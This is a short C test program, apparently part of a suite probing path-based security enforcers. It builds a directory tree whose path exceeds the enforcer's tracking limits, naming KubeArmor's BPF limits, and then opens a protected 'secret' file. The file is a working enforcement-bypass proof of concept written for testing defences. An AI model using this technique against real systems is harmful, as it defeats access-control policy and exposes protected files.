/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A file forty directories of two hundred bytes down: its path is twice as long as any call can name.
 *
 * Who copies paths into a buffer, or counts to a limit, stops somewhere (KubeArmor's BPF enforcer at 256 bytes and 20 parts)
 * and then sees no rule.
 *
 * ---
 * tries: [A8]
 * rule: tree
 * wins: secret
 * before: exec python3 -ISB "$HERE/outside/dig.py" "$V" 40 200
 */
#include "attack.h"

int main(void)
{
	char name[201] = "";

	memset(name, 'd', 200);
	must(chdir(getenv("V")), "chdir");
	for (int i = 0; i < 40; i++)
		must(chdir(name), "chdir");
	return show(open("secret", O_RDONLY));
}
